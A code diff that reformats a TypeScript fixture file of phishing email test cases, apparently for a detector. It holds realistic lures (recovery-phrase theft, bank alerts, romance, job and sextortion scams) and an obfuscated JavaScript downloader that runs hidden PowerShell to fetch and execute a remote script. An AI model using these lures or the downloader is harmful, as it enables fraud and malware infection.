@@ -16,7 +16,12 @@ import type { PhishingCase } from './phishing-mail-cases.ts';
 /** An inline picture referenced by `cid:` from the HTML, as picture-only lures carry it. */
 export function inlineImage(cid: string, name: string, bytes: Uint8Array): Entity {
   return {
-    headers: [`Content-Type: image/jpeg; name="${name}"`, 'Content-Transfer-Encoding: base64', `Content-ID: <${cid}>`, `Content-Disposition: inline; filename="${name}"`],
+    headers: [
+      `Content-Type: image/jpeg; name="${name}"`,
+      'Content-Transfer-Encoding: base64',
+      `Content-ID: <${cid}>`,
+      `Content-Disposition: inline; filename="${name}"`,
+    ],
     body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
   };
 }
@@ -48,7 +53,8 @@ var a=document.createElement("a");a.href=window.URL.createObjectURL(f);a.downloa
 </script></body></html>`;
 }
 
-const JS_DOWNLOADER = 'var sh=new ActiveXObject("WScript.Shell");var p=["pow","ershell"," -w hidden -nop -c ","\\"iwr https://cdn-docview.example.net/s.ps1 -useb|iex\\""].join("");sh.Run(p,0,false);';
+const JS_DOWNLOADER =
+  'var sh=new ActiveXObject("WScript.Shell");var p=["pow","ershell"," -w hidden -nop -c ","\\"iwr https://cdn-docview.example.net/s.ps1 -useb|iex\\""].join("");sh.Run(p,0,false);';
 
 export const MORE_CASES: readonly PhishingCase[] = [
   // ---------------------------------------------------------------- English
@@ -77,16 +83,25 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'X-MC-User: b41c7e2a9f3d08e6c15a7b2d4',
         'Feedback-ID: 48213377:48213377.1183554:us17:mc',
       ],
-      body: document([
-        { image: 'https://mcusercontent.com/b41c7e2a9f3d08e6c15a7b2d4/images/ledger-wordmark.png', alt: 'Ledger' },
-        { heading: 'Mandatory device check' },
-        'Dear Ledger customer,',
-        'Following a data incident at one of our e-commerce partners, we are asking every owner of a Ledger Nano S Plus, Nano X or Stax to run a device check. Devices that are not checked by 31 October will no longer be able to sign transactions in Ledger Live.',
-        'The check takes two minutes: connect your device and confirm your 24-word Secret Recovery Phrase so we can confirm the device has not been cloned.',
-        { button: 'Start device check', href: 'https://thornfieldgardencentre.us17.list-manage.com/track/click?u=b41c7e2a9f3d08e6c15a7b2d4&id=f0c8d2a6b1&e=8c2e1a9f07' },
-        'Ledger will never ask you to send funds. Thank you for helping us keep your assets safe.',
-        { small: 'Copyright © 2024 Thornfield Garden Centre, All rights reserved. You are receiving this email because you opted in at our tills or on our website. Our mailing address is: Thornfield Garden Centre, Ashby Road, Melton Mowbray LE13 0QE, United Kingdom. [Unsubscribe from this list](https://thornfieldgardencentre.us17.list-manage.com/unsubscribe?u=b41c7e2a9f3d08e6c15a7b2d4&id=71e3c9a0f2&e=8c2e1a9f07).' },
-      ], { preheader: 'Devices not checked by 31 October will stop signing', title: 'Ledger' }),
+      body: document(
+        [
+          { image: 'https://mcusercontent.com/b41c7e2a9f3d08e6c15a7b2d4/images/ledger-wordmark.png', alt: 'Ledger' },
+          { heading: 'Mandatory device check' },
+          'Dear Ledger customer,',
+          'Following a data incident at one of our e-commerce partners, we are asking every owner of a Ledger Nano S Plus, Nano X or Stax to run a device check. Devices that are not checked by 31 October will no longer be able to sign transactions in Ledger Live.',
+          'The check takes two minutes: connect your device and confirm your 24-word Secret Recovery Phrase so we can confirm the device has not been cloned.',
+          {
+            button: 'Start device check',
+            href: 'https://thornfieldgardencentre.us17.list-manage.com/track/click?u=b41c7e2a9f3d08e6c15a7b2d4&id=f0c8d2a6b1&e=8c2e1a9f07',
+          },
+          'Ledger will never ask you to send funds. Thank you for helping us keep your assets safe.',
+          {
+            small:
+              'Copyright © 2024 Thornfield Garden Centre, All rights reserved. You are receiving this email because you opted in at our tills or on our website. Our mailing address is: Thornfield Garden Centre, Ashby Road, Melton Mowbray LE13 0QE, United Kingdom. [Unsubscribe from this list](https://thornfieldgardencentre.us17.list-manage.com/unsubscribe?u=b41c7e2a9f3d08e6c15a7b2d4&id=71e3c9a0f2&e=8c2e1a9f07).',
+          },
+        ],
+        { preheader: 'Devices not checked by 31 October will stop signing', title: 'Ledger' },
+      ),
     }),
   },
   {
@@ -109,7 +124,14 @@ export const MORE_CASES: readonly PhishingCase[] = [
       body: document([
         { heading: 'Withdrawal requested' },
         'We received a request to withdraw 0.8421 BTC (≈ $51,204.13) from your Coinbase account.',
-        { rows: [['Amount', '0.8421 BTC'], ['Destination', 'bc1q9h7ytm3k0l4w2xjz6f5d8c7v0a3s2e4r6t8y0u'], ['Requested', 'March 8, 2025 02:16 UTC'], ['Device', 'Windows 10 · Lagos, NG']] },
+        {
+          rows: [
+            ['Amount', '0.8421 BTC'],
+            ['Destination', 'bc1q9h7ytm3k0l4w2xjz6f5d8c7v0a3s2e4r6t8y0u'],
+            ['Requested', 'March 8, 2025 02:16 UTC'],
+            ['Device', 'Windows 10 · Lagos, NG'],
+          ],
+        },
         'The withdrawal will be processed in 60 minutes. If you did not make this request, cancel it now and secure your account.',
         { button: 'Cancel withdrawal', href: 'https://u49921173.ct.sendgrid.net/ls/click?upn=u001.Vx3Kq9Lm2Tz7Rb4Wn8Pc1Hd5Fj6As0Gy-2Bk4' },
         { small: 'Coinbase, Inc. 248 3rd St #434, Oakland, CA 94607. Do not share your 2-step verification codes with anyone.' },
@@ -139,7 +161,10 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'Payout Desk (payoutdesk.release.team@gmail.com) has invited you to view the following document:',
         '“Your account balance of 1.8740 BTC (≈ USD 178,420) is ready for withdrawal. Follow the release instructions in the document. Balances not claimed within 48 hours are closed.”',
         { button: 'Open', href: 'https://docs.google.com/presentation/d/1Vq8Kx2Lm5Nz7Rb3Wt9Yc4Hd6Fj0As1Ge/edit?usp=sharing_eip&ts=678962b0' },
-        { small: 'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because payoutdesk.release.team@gmail.com shared a document with you from Google Slides.' },
+        {
+          small:
+            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because payoutdesk.release.team@gmail.com shared a document with you from Google Slides.',
+        },
       ]),
     }),
   },
@@ -166,7 +191,10 @@ export const MORE_CASES: readonly PhishingCase[] = [
         { heading: 'Refund Statement – Case 88213' },
         '“+karen.brooks1979@gmail.com A refund of $2,349.00 from your Amazon order has been put on hold. Confirm your card within 24 hours to release it: https://refund-release-center.com/claim?case=88213”',
         { button: 'Open', href: 'https://docs.google.com/document/d/1Hk2Lq8Rz5Nw7Vb3Xc9Mp4Tj6Fd0As1Gy/edit?disco=AAAA9xK2mQ&usp=comment_email_document' },
-        { small: 'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because you are mentioned in this thread. Change what Google Docs sends you.' },
+        {
+          small:
+            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because you are mentioned in this thread. Change what Google Docs sends you.',
+        },
       ]),
     }),
   },
@@ -188,10 +216,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       body: document([
         { image: 'https://na3.docusign.net/Member/Images/email/docusign-logo.png', alt: 'Docusign' },
         { heading: 'Accounts Payable sent you a document to review and sign.' },
-        { button: 'REVIEW DOCUMENT', href: 'https://na3.docusign.net/Signing/EmailStart.aspx?a=3e7c1b9a-2d4f-4a6e-8c0b-5f1e9d2a7c4b&etti=24&acct=7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b&er=9a1c3e5b-7d2f-4b6a-8e0c-2f4a6c8e0b1d' },
+        {
+          button: 'REVIEW DOCUMENT',
+          href: 'https://na3.docusign.net/Signing/EmailStart.aspx?a=3e7c1b9a-2d4f-4a6e-8c0b-5f1e9d2a7c4b&etti=24&acct=7b2e4c9a-1d3f-4e5a-9c8b-0f2e6d1a3c5b&er=9a1c3e5b-7d2f-4b6a-8e0c-2f4a6c8e0b1d',
+        },
         'Accounts Payable',
         'Hello, the remittance for invoice PMC-0614 ($38,760.00) has been released. Because of its size, the payment confirmation is held in our secure viewer: please access it with your company email login at https://remit-secureview.net/pmc/0614 before signing the acknowledgement.',
-        { small: 'Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others. Alternate Signing Method: visit Docusign.com, click \'Access Documents\', and enter the security code: 3E7C1B9A2D4F4A6E8C0B5F1E9D2A7C4B3' },
+        {
+          small:
+            "Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others. Alternate Signing Method: visit Docusign.com, click 'Access Documents', and enter the security code: 3E7C1B9A2D4F4A6E8C0B5F1E9D2A7C4B3",
+        },
       ]),
     }),
   },
@@ -214,7 +248,10 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'Dear User,',
         'Your mailbox has reached 99% of its storage limit (49.6 GB of 50 GB). You will not be able to send or receive new messages until your storage is upgraded.',
         'To upgrade to 100 GB at no cost, complete the verification form below with your email address and password within 24 hours.',
-        { button: 'Upgrade storage', href: 'https://forms.office.com/Pages/ResponsePage.aspx?id=Kq8Lm2Rz5Nw7Vb3Xc9Mp4Tj6Fd0As1GyHk2Lq8Rz5Nw7UQjBZMVlaMEZGN1JXSDk5Rk' },
+        {
+          button: 'Upgrade storage',
+          href: 'https://forms.office.com/Pages/ResponsePage.aspx?id=Kq8Lm2Rz5Nw7Vb3Xc9Mp4Tj6Fd0As1GyHk2Lq8Rz5Nw7UQjBZMVlaMEZGN1JXSDk5Rk',
+        },
         'IT Service Desk',
         { small: 'Never give out your password. Microsoft Forms' },
       ]),
@@ -264,7 +301,14 @@ export const MORE_CASES: readonly PhishingCase[] = [
       headers: ['Feedback-ID: 1.us-east-1.c3F1YXJlLWludm9pY2Vz:AmazonSES'],
       body: document([
         { heading: 'Apple Billing Support sent you an invoice for $849.99' },
-        { rows: [['Invoice', '#000417'], ['Due', 'Upon receipt'], ['Item', 'iPhone 15 Pro Max 256GB – Apple Pay order'], ['Total', '$849.99']] },
+        {
+          rows: [
+            ['Invoice', '#000417'],
+            ['Due', 'Upon receipt'],
+            ['Item', 'iPhone 15 Pro Max 256GB – Apple Pay order'],
+            ['Total', '$849.99'],
+          ],
+        },
         'Message from Apple Billing Support: Your Apple Pay wallet was charged $849.99 for the order above. If you did not place this order, DO NOT PAY. Call Apple Billing at +1 (833) 604-2197 within 24 hours to cancel and receive your refund.',
         { button: 'Pay invoice', href: 'https://squareup.com/pay-invoice/inv:0-ChAq8Lm2Rz5Nw7Vb3Xc9Mp4T' },
         { small: 'Square, Inc., 1955 Broadway, Suite 600, Oakland, CA 94612. Square processes payments for Apple Billing Support.' },
@@ -320,13 +364,19 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'X-Mailin-Client: 6381442',
         'Feedback-ID: 77.32.148.61:6381442_-1:6381442:Sendinblue',
       ],
-      body: document([
-        { heading: 'Season 3 airdrop is live' },
-        'Your wallet was active on Arbitrum One during the snapshot and qualifies for 2,150 ARB (≈ $1,720).',
-        'Connect the wallet you used during the snapshot and sign the claim message. Unclaimed allocations return to the DAO treasury on 26 November.',
-        { button: 'Claim 2,150 ARB', href: 'https://r.sendibt3.com/mk/cl/f/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Hk3Yd6Ws2' },
-        { small: 'Arbitrum Foundation, Cayman Islands. You received this email because you interacted with the Arbitrum ecosystem. [Unsubscribe](https://r.sendibt3.com/mk/un/v2/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Pk4Zt7Qw1)' },
-      ], { preheader: '2,150 ARB allocated to your wallet' }),
+      body: document(
+        [
+          { heading: 'Season 3 airdrop is live' },
+          'Your wallet was active on Arbitrum One during the snapshot and qualifies for 2,150 ARB (≈ $1,720).',
+          'Connect the wallet you used during the snapshot and sign the claim message. Unclaimed allocations return to the DAO treasury on 26 November.',
+          { button: 'Claim 2,150 ARB', href: 'https://r.sendibt3.com/mk/cl/f/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Hk3Yd6Ws2' },
+          {
+            small:
+              'Arbitrum Foundation, Cayman Islands. You received this email because you interacted with the Arbitrum ecosystem. [Unsubscribe](https://r.sendibt3.com/mk/un/v2/sh/8Tq2Lm9Rz5Nw7Vb3Xc/Pk4Zt7Qw1)',
+          },
+        ],
+        { preheader: '2,150 ARB allocated to your wallet' },
+      ),
     }),
   },
   {
@@ -347,9 +397,9 @@ export const MORE_CASES: readonly PhishingCase[] = [
         { image: 'https://chaseonline-devicecheck.com/img/chase-logo.png', alt: 'Chase' },
         'Dear Customer,',
         'A new device (iPhone 16, iOS 18.2) was added to Chase Mobile for your account on January 12, 2025 at 6:48 AM ET.',
-        'If you added this device, no action is needed. If you don\'t recognize it, verify your identity now to remove the device. For your protection, online access will be limited until you confirm.',
+        "If you added this device, no action is needed. If you don't recognize it, verify your identity now to remove the device. For your protection, online access will be limited until you confirm.",
         { button: 'Verify my identity', href: 'https://chaseonline-devicecheck.com/secure/verify?session=Ah7Qz2' },
-        { small: 'JPMorgan Chase Bank, N.A. Member FDIC. Please don\'t reply to this automated message.' },
+        { small: "JPMorgan Chase Bank, N.A. Member FDIC. Please don't reply to this automated message." },
       ]),
     }),
   },
@@ -372,7 +422,13 @@ export const MORE_CASES: readonly PhishingCase[] = [
       body: multipart('mixed', [
         document([
           { heading: 'You have a new voice message' },
-          { rows: [['Caller', '(214) ***-**77'], ['Duration', '0:38'], ['Recipient', 'arhodes@kellerwhitfield.com']] },
+          {
+            rows: [
+              ['Caller', '(214) ***-**77'],
+              ['Duration', '0:38'],
+              ['Recipient', 'arhodes@kellerwhitfield.com'],
+            ],
+          },
           'Open the attached message to listen.',
         ]),
         attachment('Playback_VM_arhodes_0038.svg', 'image/svg+xml', svgRedirect('https://vm-playback.b-cdn.net/auth/?u=', 'arhodes@kellerwhitfield.com')),
@@ -394,7 +450,9 @@ export const MORE_CASES: readonly PhishingCase[] = [
       relay: 'smtp.brookfieldsupplyco.net [203.0.113.77]',
       auth: { dmarc: 'none' },
       body: multipart('mixed', [
-        plain('Hello,\n\nPlease see the attached payment advice for invoice 20931. Open it in your browser to download the remittance.\n\nRegards,\nAccounts Receivable'),
+        plain(
+          'Hello,\n\nPlease see the attached payment advice for invoice 20931. Open it in your browser to download the remittance.\n\nRegards,\nAccounts Receivable',
+        ),
         attachment('Payment_Advice_INV20931.html', 'text/html', smugglingPage('Remittance_INV20931.zip', zip({ 'Remittance_INV20931.js': JS_DOWNLOADER }))),
       ]),
     }),
@@ -413,18 +471,20 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'CAJm4Xp8Qz2Nw5Rb7Vt1Lc3Hd9Fs6Ay0Ge2Ko4Mn8Tq1Zx5@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-sor-f41.google.com [209.85.220.41]',
-      body: gmailBody([
-        'My dearest Carol,',
-        '',
-        'I read your message three times before I slept. You cannot know what your words mean to a man who spends his days in a field hospital far from everyone he loves. Since my wife passed, I did not think I could feel this way again.',
-        '',
-        'I have good news and bad news, my love. The good news is that my contract with the UN medical mission ends next month and I can finally come to you in Ohio. The bad news is that the mission office will not release my leave papers until the leave fee of $2,400 is paid, and my salary account is frozen while I am on deployment for security reasons.',
-        '',
-        'I am ashamed to ask, but could you help me with this fee? You can send it by Western Union or in Apple gift cards to my agent, and I will pay you back the moment I land. Please keep this between us, my superiors would not understand.',
-        '',
-        'Forever yours,',
-        'William',
-      ].join('\n')),
+      body: gmailBody(
+        [
+          'My dearest Carol,',
+          '',
+          'I read your message three times before I slept. You cannot know what your words mean to a man who spends his days in a field hospital far from everyone he loves. Since my wife passed, I did not think I could feel this way again.',
+          '',
+          'I have good news and bad news, my love. The good news is that my contract with the UN medical mission ends next month and I can finally come to you in Ohio. The bad news is that the mission office will not release my leave papers until the leave fee of $2,400 is paid, and my salary account is frozen while I am on deployment for security reasons.',
+          '',
+          'I am ashamed to ask, but could you help me with this fee? You can send it by Western Union or in Apple gift cards to my agent, and I will pay you back the moment I land. Please keep this between us, my superiors would not understand.',
+          '',
+          'Forever yours,',
+          'William',
+        ].join('\n'),
+      ),
     }),
   },
   {
@@ -442,19 +502,21 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'CAPk7Lq2Xz9Nw4Rb1Vt6Mc8Hd3Fs5Ay0Ge7Ko2Mn9Tq4Zx1@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-sor-f52.google.com [209.85.220.52]',
-      body: gmailBody([
-        'Dear Jasmine,',
-        '',
-        'Following your online interview with our HR manager, we are pleased to offer you the position of Remote Administrative Assistant at $38 per hour, 25 hours per week, starting Monday.',
-        '',
-        'To set up your home office, we will mail you a company cheque of $4,850 this week. Once you deposit it by mobile deposit, send $4,200 by Zelle to our approved equipment vendor (details will follow) so they can ship your laptop, printer and software license. Keep the remaining $650 as your first-week allowance.',
-        '',
-        'Please reply with your full name, home address and cell phone number so we can send the cheque today. This offer is valid for 48 hours.',
-        '',
-        'Best regards,',
-        'Linda Carver',
-        'HR Manager, Northbridge Analytics',
-      ].join('\n')),
+      body: gmailBody(
+        [
+          'Dear Jasmine,',
+          '',
+          'Following your online interview with our HR manager, we are pleased to offer you the position of Remote Administrative Assistant at $38 per hour, 25 hours per week, starting Monday.',
+          '',
+          'To set up your home office, we will mail you a company cheque of $4,850 this week. Once you deposit it by mobile deposit, send $4,200 by Zelle to our approved equipment vendor (details will follow) so they can ship your laptop, printer and software license. Keep the remaining $650 as your first-week allowance.',
+          '',
+          'Please reply with your full name, home address and cell phone number so we can send the cheque today. This offer is valid for 48 hours.',
+          '',
+          'Best regards,',
+          'Linda Carver',
+          'HR Manager, Northbridge Analytics',
+        ].join('\n'),
+      ),
     }),
   },
 
@@ -476,20 +538,26 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['outlook.es:selector1'],
       relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.101]',
       body: multipart('mixed', [
-        plain('Buenos días,\n\nPor orden de la Comisaría General de Policía Judicial le remitimos la citación adjunta.\n\nDispone de 72 horas para responder.\n\nAtentamente,\nComisario Principal\nBrigada Central de Protección al Menor'),
-        attachment('Citacion_Judicial_2025-0418.pdf', 'application/pdf', textPdf([
-          'MINISTERIO DEL INTERIOR - POLICIA NACIONAL',
-          'COMISARIA GENERAL DE POLICIA JUDICIAL',
-          'CITACION JUDICIAL N. 2025/0418-PN',
-          'Por orden del Juzgado Central de Instruccion, es usted objeto de varios procedimientos',
-          'judiciales tras una ciberinfiltracion autorizada, por: pornografia infantil, pedofilia,',
-          'exhibicionismo y ciberpornografia.',
-          'Para su confidencialidad le enviamos este correo. Tiene 72 horas para justificarse',
-          'por correo electronico a citaciones.brigada.central@gmx.es. Pasado este plazo,',
-          'transmitiremos el expediente al fiscal y se emitira una orden de detencion,',
-          'y sera inscrito en el registro nacional de delincuentes sexuales.',
-          'Comisario Principal - Jefe de la Brigada Central',
-        ])),
+        plain(
+          'Buenos días,\n\nPor orden de la Comisaría General de Policía Judicial le remitimos la citación adjunta.\n\nDispone de 72 horas para responder.\n\nAtentamente,\nComisario Principal\nBrigada Central de Protección al Menor',
+        ),
+        attachment(
+          'Citacion_Judicial_2025-0418.pdf',
+          'application/pdf',
+          textPdf([
+            'MINISTERIO DEL INTERIOR - POLICIA NACIONAL',
+            'COMISARIA GENERAL DE POLICIA JUDICIAL',
+            'CITACION JUDICIAL N. 2025/0418-PN',
+            'Por orden del Juzgado Central de Instruccion, es usted objeto de varios procedimientos',
+            'judiciales tras una ciberinfiltracion autorizada, por: pornografia infantil, pedofilia,',
+            'exhibicionismo y ciberpornografia.',
+            'Para su confidencialidad le enviamos este correo. Tiene 72 horas para justificarse',
+            'por correo electronico a citaciones.brigada.central@gmx.es. Pasado este plazo,',
+            'transmitiremos el expediente al fiscal y se emitira una orden de detencion,',
+            'y sera inscrito en el registro nacional de delincuentes sexuales.',
+            'Comisario Principal - Jefe de la Brigada Central',
+          ]),
+        ),
       ]),
     }),
   },
@@ -509,7 +577,9 @@ export const MORE_CASES: readonly PhishingCase[] = [
       relay: 'mta2.dgt-sanciones-tramite.com [203.0.113.18]',
       auth: { dmarc: 'none' },
       body: multipart('related', [
-        html('<html><body style="margin:0"><center><a href="https://dgt-sanciones-tramite.com/pago/2025-MD-048213"><img src="cid:multa@dgt" width="600" height="780" border="0" alt=""></a></center></body></html>'),
+        html(
+          '<html><body style="margin:0"><center><a href="https://dgt-sanciones-tramite.com/pago/2025-MD-048213"><img src="cid:multa@dgt" width="600" height="780" border="0" alt=""></a></center></body></html>',
+        ),
         inlineImage('multa@dgt', 'notificacion.jpg', JPEG),
       ]),
     }),
@@ -528,13 +598,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       returnPath: 'www-data@srv-mail-52.example.org',
       relay: 'srv-mail-52.example.org [198.51.100.52]',
       auth: { dkim: 'none', spf: 'fail', dmarc: 'fail' },
-      body: document([
-        { heading: 'Devolución de la Renta 2024' },
-        'Estimado/a contribuyente:',
-        'Tras el cálculo anual de su actividad fiscal, hemos determinado que tiene derecho a recibir una devolución de 281,40 €. Para recibirla debe confirmar los datos de la tarjeta o cuenta donde desea el abono en un plazo de 3 días hábiles; pasado ese plazo la devolución quedará anulada.',
-        { button: 'Solicitar devolución', href: 'https://aeat-devoluciones-2025.web.app/solicitud' },
-        { small: 'Agencia Estatal de Administración Tributaria. Este es un mensaje automático, no responda.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Devolución de la Renta 2024' },
+          'Estimado/a contribuyente:',
+          'Tras el cálculo anual de su actividad fiscal, hemos determinado que tiene derecho a recibir una devolución de 281,40 €. Para recibirla debe confirmar los datos de la tarjeta o cuenta donde desea el abono en un plazo de 3 días hábiles; pasado ese plazo la devolución quedará anulada.',
+          { button: 'Solicitar devolución', href: 'https://aeat-devoluciones-2025.web.app/solicitud' },
+          { small: 'Agencia Estatal de Administración Tributaria. Este es un mensaje automático, no responda.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -551,13 +624,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['caixabank-seguridad-clientes.info:mail'],
       relay: 'smtp.caixabank-seguridad-clientes.info [203.0.113.201]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Estimado/a cliente:',
-        'Le informamos de que se ha vinculado un nuevo dispositivo (Samsung Galaxy S24) a su acceso de CaixaBankNow el 05/02/2025 a las 22:37.',
-        'Si ha sido usted, no tiene que hacer nada. Si no reconoce este dispositivo, cancele el registro de inmediato; de lo contrario, el nuevo dispositivo podrá autorizar operaciones y Bizum desde su cuenta.',
-        { button: 'No he sido yo – cancelar registro', href: 'https://caixabank-seguridad-clientes.info/now/cancelar?id=55183' },
-        { small: 'CaixaBank, S.A. Calle Pintor Sorolla, 2-4, 46002 Valencia. Por su seguridad, no responda a este correo.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          'Estimado/a cliente:',
+          'Le informamos de que se ha vinculado un nuevo dispositivo (Samsung Galaxy S24) a su acceso de CaixaBankNow el 05/02/2025 a las 22:37.',
+          'Si ha sido usted, no tiene que hacer nada. Si no reconoce este dispositivo, cancele el registro de inmediato; de lo contrario, el nuevo dispositivo podrá autorizar operaciones y Bizum desde su cuenta.',
+          { button: 'No he sido yo – cancelar registro', href: 'https://caixabank-seguridad-clientes.info/now/cancelar?id=55183' },
+          { small: 'CaixaBank, S.A. Calle Pintor Sorolla, 2-4, 46002 Valencia. Por su seguridad, no responda a este correo.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -583,14 +659,20 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'X-Mailin-Client: 2738194',
         'Feedback-ID: 77.32.148.33:2738194_-1:2738194:Sendinblue',
       ],
-      body: document([
-        { heading: 'Aviso de seguridad' },
-        'Estimado cliente:',
-        'Hemos detectado un intento de pago no habitual con su tarjeta y, por su seguridad, la hemos restringido temporalmente. Para reactivarla debe confirmar su identidad y sus datos de acceso antes de 24 horas. Si no lo hace, la tarjeta quedará cancelada.',
-        { button: 'Confirmar identidad', href: 'https://r.sendibt3.com/mk/cl/f/sh/3Ux7Kq2Lm9Rz5Nw/Qa6Ws3Ed8' },
-        'Gracias por confiar en BBVA.',
-        { small: 'Recibe este correo porque es cliente o ha solicitado presupuesto a Reformas Alcázar S.L., C/ Toledo 44, 13600 Alcázar de San Juan. [Darse de baja](https://r.sendibt3.com/mk/un/v2/sh/3Ux7Kq2Lm9Rz5Nw/Jt8Vb1Xc4)' },
-      ], { lang: 'es', preheader: 'Confirme su identidad en 24 horas' }),
+      body: document(
+        [
+          { heading: 'Aviso de seguridad' },
+          'Estimado cliente:',
+          'Hemos detectado un intento de pago no habitual con su tarjeta y, por su seguridad, la hemos restringido temporalmente. Para reactivarla debe confirmar su identidad y sus datos de acceso antes de 24 horas. Si no lo hace, la tarjeta quedará cancelada.',
+          { button: 'Confirmar identidad', href: 'https://r.sendibt3.com/mk/cl/f/sh/3Ux7Kq2Lm9Rz5Nw/Qa6Ws3Ed8' },
+          'Gracias por confiar en BBVA.',
+          {
+            small:
+              'Recibe este correo porque es cliente o ha solicitado presupuesto a Reformas Alcázar S.L., C/ Toledo 44, 13600 Alcázar de San Juan. [Darse de baja](https://r.sendibt3.com/mk/un/v2/sh/3Ux7Kq2Lm9Rz5Nw/Jt8Vb1Xc4)',
+          },
+        ],
+        { lang: 'es', preheader: 'Confirme su identidad en 24 horas' },
+      ),
     }),
   },
   {
@@ -608,7 +690,9 @@ export const MORE_CASES: readonly PhishingCase[] = [
       relay: 'mail.juzgados-notificacion.com [192.0.2.94]',
       auth: { dmarc: 'none' },
       body: multipart('mixed', [
-        plain('Por medio de la presente se le notifica la citación en el Procedimiento Ordinario 381/2025 seguido en este Juzgado contra su empresa.\n\nDebe comparecer en el plazo de 10 días. Se adjunta la cédula de citación y la demanda.\n\nLetrado de la Administración de Justicia\nJuzgado de Primera Instancia nº 4'),
+        plain(
+          'Por medio de la presente se le notifica la citación en el Procedimiento Ordinario 381/2025 seguido en este Juzgado contra su empresa.\n\nDebe comparecer en el plazo de 10 días. Se adjunta la cédula de citación y la demanda.\n\nLetrado de la Administración de Justicia\nJuzgado de Primera Instancia nº 4',
+        ),
         attachment('Cedula_Citacion_PO_381-2025.zip', 'application/zip', zip({ 'Cedula_Citacion_PO_381-2025.pdf.js': JS_DOWNLOADER })),
       ]),
     }),
@@ -635,14 +719,23 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'X-MC-User: e2c9a71f4b3d8e06a5c1b7d2f',
         'Feedback-ID: 77312045:77312045.9921347:us8:mc',
       ],
-      body: document([
-        { heading: 'Tu membresía está en espera' },
-        'Hola, Sergio:',
-        'No hemos podido procesar el último pago de tu suscripción. Para seguir viendo tus series y películas, actualiza tu método de pago en las próximas 48 horas; si no, tu cuenta se cancelará.',
-        { button: 'Actualizar pago', href: 'https://academiavalledeidiomas.us8.list-manage.com/track/click?u=e2c9a71f4b3d8e06a5c1b7d2f&id=9d2f4b6a8c&e=3f1a7c2e9b' },
-        '— El equipo de Netflix',
-        { small: 'Copyright © 2025 Academia Valle de Idiomas, todos los derechos reservados. Recibes este correo porque te inscribiste en nuestros cursos. Nuestra dirección: Av. de la Constitución 12, 41001 Sevilla. [Darse de baja](https://academiavalledeidiomas.us8.list-manage.com/unsubscribe?u=e2c9a71f4b3d8e06a5c1b7d2f&id=4c8e2a1f9b&e=3f1a7c2e9b)' },
-      ], { lang: 'es', preheader: 'Actualiza tu pago en 48 horas' }),
+      body: document(
+        [
+          { heading: 'Tu membresía está en espera' },
+          'Hola, Sergio:',
+          'No hemos podido procesar el último pago de tu suscripción. Para seguir viendo tus series y películas, actualiza tu método de pago en las próximas 48 horas; si no, tu cuenta se cancelará.',
+          {
+            button: 'Actualizar pago',
+            href: 'https://academiavalledeidiomas.us8.list-manage.com/track/click?u=e2c9a71f4b3d8e06a5c1b7d2f&id=9d2f4b6a8c&e=3f1a7c2e9b',
+          },
+          '— El equipo de Netflix',
+          {
+            small:
+              'Copyright © 2025 Academia Valle de Idiomas, todos los derechos reservados. Recibes este correo porque te inscribiste en nuestros cursos. Nuestra dirección: Av. de la Constitución 12, 41001 Sevilla. [Darse de baja](https://academiavalledeidiomas.us8.list-manage.com/unsubscribe?u=e2c9a71f4b3d8e06a5c1b7d2f&id=4c8e2a1f9b&e=3f1a7c2e9b)',
+          },
+        ],
+        { lang: 'es', preheader: 'Actualiza tu pago en 48 horas' },
+      ),
     }),
   },
   {
@@ -659,18 +752,20 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'CAHn6Kq1Xz8Nw3Rb5Vt7Lc2Hd4Fs9Ay1Ge6Ko3Mn7Tq5Zx2@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-sor-f41.google.com [209.85.220.41]',
-      body: gmailBody([
-        'Hola,',
-        '',
-        'Hemos obtenido su contacto de una plataforma de empleo. Nuestra agencia busca personas para un trabajo a tiempo parcial desde casa: solo tiene que valorar productos de comercios online con su móvil, entre 30 y 60 minutos al día.',
-        '',
-        'Salario: de 250 € a 800 € al día, pago diario. No se necesita experiencia. Mayores de 23 años.',
-        '',
-        'Si le interesa, escriba "trabajo" a nuestra coordinadora por WhatsApp: +34 631 48 27 90 (solo mensajes). Plazas limitadas.',
-        '',
-        'Un saludo,',
-        'Departamento de Selección',
-      ].join('\n')),
+      body: gmailBody(
+        [
+          'Hola,',
+          '',
+          'Hemos obtenido su contacto de una plataforma de empleo. Nuestra agencia busca personas para un trabajo a tiempo parcial desde casa: solo tiene que valorar productos de comercios online con su móvil, entre 30 y 60 minutos al día.',
+          '',
+          'Salario: de 250 € a 800 € al día, pago diario. No se necesita experiencia. Mayores de 23 años.',
